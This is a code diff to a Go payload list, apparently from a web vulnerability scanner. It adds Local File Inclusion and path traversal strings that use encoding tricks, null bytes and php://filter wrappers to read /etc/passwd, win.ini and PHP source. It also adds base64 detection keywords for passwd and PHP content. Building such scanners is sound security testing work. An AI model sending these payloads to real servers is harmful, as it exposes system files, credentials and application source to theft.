@@ -2,6 +2,7 @@ package payloads
 
 // LFIPathTraversalPayloads provides an expanded list of Local File Inclusion/Path Traversal payloads.
 // It includes deeper traversal, various encoding techniques, OS-specific paths, and modern wrappers.
+// Payloads containing '%' are already URL-encoded and are sent to the target as-is.
 var LFIPathTraversalPayloads = []string{
 	// --- Basic & Deep Traversal ---
 	"/etc/passwd",
@@ -18,13 +19,19 @@ var LFIPathTraversalPayloads = []string{
 	// --- Null Byte Bypass (Legacy PHP) ---
 	"../../../../../../../../etc/passwd%00",
 	"../../../../../../../../etc/passwd%00.jpg",
+	"../../../../../../../../etc/passwd%00.php",
+	"....//....//....//....//etc/passwd%00",
+	"../../../../windows/win.ini%00",
 
 	// --- URL & Double Encoding ---
 	"..%2f..%2f..%2f..%2fetc%2fpasswd",
 	"%2e%2e/%2e%2e/%2e%2e/etc/passwd",
 	"%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd",
-	"..%252f..%252f..%252f..%252fetc%252fpasswd",        // Double URL encoding
-	"%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd", // UTF-8 Overlong/Invalid Encoding
+	"..%252f..%252f..%252f..%252fetc%252fpasswd",                  // Double URL encoding
+	"%252e%252e%252f%252e%252e%252f%252e%252e%252fetc%252fpasswd", // Double URL encoding
+	"%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",           // UTF-8 Overlong/Invalid Encoding
+	"..%5c..%5c..%5c..%5cwindows%5cwin.ini",
+	"..%255c..%255c..%255c..%255cwindows%255cwin.ini", // Double URL encoding
 
 	// --- Windows Specific Paths ---
 	"../boot.ini",
@@ -35,6 +42,7 @@ var LFIPathTraversalPayloads = []string{
 	"../../windows/win.ini",
 	"../../../windows/win.ini",
 	"../../../../windows/win.ini",
+	"..\\..\\..\\..\\windows\\win.ini",
 	"c:\\boot.ini",
 	"c:\\windows\\win.ini",
 	"c:\\windows\\system32\\drivers\\etc\\hosts",
@@ -66,6 +74,8 @@ var LFIPathTraversalPayloads = []string{
 	"php://filter/read=string.rot13/resource=/etc/passwd",
 	"php://filter/convert.base64-encode/resource=/etc/passwd",
 	"php://filter/read=convert.base64-encode/resource=/etc/passwd",
+	"php://filter/convert.base64-encode/resource=index.php", // Source disclosure of the including script
+	"php://filter/convert.base64-encode/resource=../index.php",
 	"php://input",                  // Expects data in POST body
 	"phar://./shell.phar/test.txt", // PHAR Deserialization / File Read
 	"zip://./shell.zip#test.txt",   // ZIP Wrapper
@@ -82,6 +92,7 @@ var LFIKeywords = []string{
 	"bin:x:2:2:",
 	"root:$1$",
 	"root:$6$",
+	"cm9vdDp4OjA6MD", // Base64 of "root:x:0:0" (php://filter/convert.base64-encode)
 
 	// --- Windows .ini Files ---
 	"[boot loader]",
@@ -99,6 +110,9 @@ var LFIKeywords = []string{
 	"[error] [client",  // error.log
 	"sshd:session",     // auth.log
 
+	// --- Source Disclosure ---
+	"PD9waHA", // Base64 of "<?php" (php://filter/convert.base64-encode)
+
 	// --- Generic Config Keywords ---
 	"DB_PASSWORD",
 	"DB_USER",